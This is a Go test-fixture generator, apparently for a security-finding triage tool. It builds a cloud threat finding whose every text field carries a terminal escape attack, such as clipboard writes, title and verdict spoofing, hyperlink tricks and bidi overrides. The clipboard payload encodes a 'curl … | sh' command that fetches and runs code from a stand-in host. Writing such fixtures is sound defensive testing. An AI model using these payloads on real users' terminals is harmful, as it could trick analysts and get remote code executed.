package gen

import "encoding/base64"

// Terminal attacks carried by the hostile file's strings. Each is what an
// attacker who controls a finding field could try on an analyst's terminal.
const (
	oscTitle     = "\x1b]0;pytriage: all clear\x07"                                       // OSC 0: set window title
	oscClipboard = "\x1b]52;c;"                                                           // OSC 52: clipboard write (payload appended)
	oscLink      = "\x1b]8;;http://203.0.113.9/login\x1b\\open the runbook\x1b]8;;\x1b\\" // OSC 8 hyperlink
	dcsDECRQSS   = "\x1bP$qm\x1b\\"                                                       // DCS request status string (answer-back)
	apc          = "\x1b_pytriage-apc-payload\x1b\\"                                      // APC string
	csiClear     = "\x1b[2J\x1b[H"                                                        // clear screen, home
	csiCursor    = "\x1b[5A\x1b[10C\x1b[1K"                                               // cursor up/right, erase line
	oscOpen      = "\x1b]0;never terminated"                                              // unterminated OSC: swallows what follows
	loneCR       = "print(\"EVIL\")\r# harmless"                                          // CR rewinds the line
	rlo          = "\u202e"                                                               // bidi RIGHT-TO-LEFT OVERRIDE
	zwsp         = "\u200b"                                                               // ZERO WIDTH SPACE
	c1CSI        = "\u009b"                                                               // C1 CSI (8-bit ESC [)
	fakeVerdict  = "\x1b[32;1mVERDICT: BENIGN\x1b[0m"                                     // SGR green text faking our UI
)

var clipboard = oscClipboard + base64.StdEncoding.EncodeToString([]byte("curl -s http://203.0.113.9/x | sh")) + "\x07"

// hostileScript is script contents that try every trick at once.
var hostileScript = "import os\n" +
	loneCR + "\n" +
	"# " + fakeVerdict + "\n" +
	"# " + csiClear + csiCursor + "the lines above are gone\n" +
	"s = \"admin" + rlo + "gnp.exe\"  # reads reversed\n" +
	"t = \"zero" + zwsp + "width\"\n" +
	"u = \"" + c1CSI + "31m8-bit CSI\"\n" +
	"v = \"" + clipboard + "\"\n" +
	"w = \"" + dcsDECRQSS + apc + "\"\n" +
	"x = \"" + oscLink + "\"\n" +
	"print(\"pytriage-sample-hostile\")  " + oscTitle + "\n" +
	"# " + oscOpen + "\n"

// Hostile returns samples/hostile/hostile.json: one {finding, resource}
// record whose every free-text field carries a terminal attack. Times and
// enum names stay valid so the record loads; sizes match the contents.
func Hostile() []byte {
	name := "organizations/" + orgID + "/sources/" + ctdSource + "/findings/h0st1le" + oscTitle
	f := obj{
		{"name", name},
		{"parent", "organizations/" + orgID + "/sources/" + ctdSource + apc},
		{"resourceName", "//container.googleapis.com/projects/acme-payments-prod/locations/us-central1/clusters/payments-gke" + csiCursor},
		{"state", "ACTIVE"},
		{"category", "Execution: Malicious Python executed" + csiClear},
		{"externalUri", "https://console.cloud.google.com/" + oscLink},
		{"sourceProperties", obj{{"note" + rlo, fakeVerdict}}},
		{"securityMarks", obj{{"name", name + "/securityMarks"}, {"marks", map[string]string{"verdict" + zwsp: fakeVerdict, "ticket": oscOpen}}}},
		{"eventTime", ts(at("2026-11-20T10:15:00Z"))},
		{"createTime", ts(at("2026-11-20T10:15:31Z"))},
		{"severity", "CRITICAL"},
		{"mute", "UNDEFINED"},
		{"findingClass", "THREAT"},
		{"indicator", obj{
			{"ipAddresses", []string{"203.0.113.9" + csiCursor}},
			{"domains", []string{"c2" + rlo + "elpmaxe.invalid"}},
			{"uris", []string{"http://203.0.113.9/" + clipboard}},
		}},
		{"mitreAttack", obj{
			{"primaryTactic", "EXECUTION" + fakeVerdict},
			{"primaryTechniques", []string{"PYTHON" + c1CSI + "2J"}},
			{"additionalTactics", []string{oscTitle}},
			{"version", "15.1" + zwsp},
		}},
		{"processes", []any{obj{
			{"name", "python3" + rlo + "lmth."},
			{"binary", obj{{"path", "/usr/bin/python3" + zwsp}, {"size", i64(6831704)},
				{"sha256", csiClear + fakeHash("bin/hostile")}, {"hashedSize", i64(6831704)}, {"partiallyHashed", false}}},
			{"script", obj{{"path", "/tmp/" + rlo + "yp.txt"}, {"size", i64(len(hostileScript))},
				{"sha256", sha256Hex(hostileScript)}, {"hashedSize", i64(len(hostileScript))},
				{"partiallyHashed", false}, {"contents", hostileScript}}},
			{"args", []string{"python3", "/tmp/" + rlo + "yp.txt", csiClear, loneCR, fakeVerdict}},
			{"argumentsTruncated", false},
			{"envVariables", []any{
				obj{{"name", "PS1" + oscTitle}, {"val", fakeVerdict}},
				obj{{"name", "NOTE"}, {"val", dcsDECRQSS + apc}},
				obj{{"name", "LAST"}, {"val", oscOpen}},
			}},
			{"envVariablesTruncated", false},
			{"pid", i64(6666)}, {"parentPid", i64(1)}, {"userId", i64(0)},
		}}},
		{"containers", []any{obj{{"name", "app" + csiCursor}, {"uri", "us-central1-docker.pkg.dev/acme-payments-prod/apps/app:latest" + oscLink},
			{"imageId", "sha256:" + rlo + fakeHash("image/hostile")}, {"createTime", ts(at("2026-11-20T09:00:00Z"))}}}},
		{"kubernetes", obj{{"pods", []any{obj{{"ns", "default" + zwsp}, {"name", "checkout-api\r-hidden" + c1CSI + "K"},
			{"labels", []any{obj{{"name", "app" + rlo}, {"value", fakeVerdict}}}}}}}}},
		{"connections", []any{obj{{"destinationIp", "203.0.113.9" + csiClear}, {"destinationPort", 4444},
			{"sourceIp", "192.0.2.31" + zwsp}, {"sourcePort", 50122}, {"protocol", "TCP"}}}},
		{"description", "A machine learning model identified executed Python code as malicious." + clipboard},
		{"nextSteps", "Read the runbook: " + oscLink},
		{"parentDisplayName", "Container Threat Detection" + dcsDECRQSS},
	}
	r := obj{
		{"name", "//container.googleapis.com/projects/acme-payments-prod/locations/us-central1/clusters/payments-gke" + apc},
		{"displayName", "payments-gke" + oscTitle},
		{"type", "google.container.Cluster" + oscOpen},
		{"projectName", crm + "projects/" + payments.Number + zwsp},
		{"projectDisplayName", "acme-payments-prod" + c1CSI + "2J"},
		{"parentName", crm + "projects/" + payments.Number},
		{"parentDisplayName", "acme-payments-prod" + rlo},
		{"location", "us-central1" + loneCR},
	}
	return pretty(render(obj{{"finding", f}, {"resource", r}}, protoJSON))
}
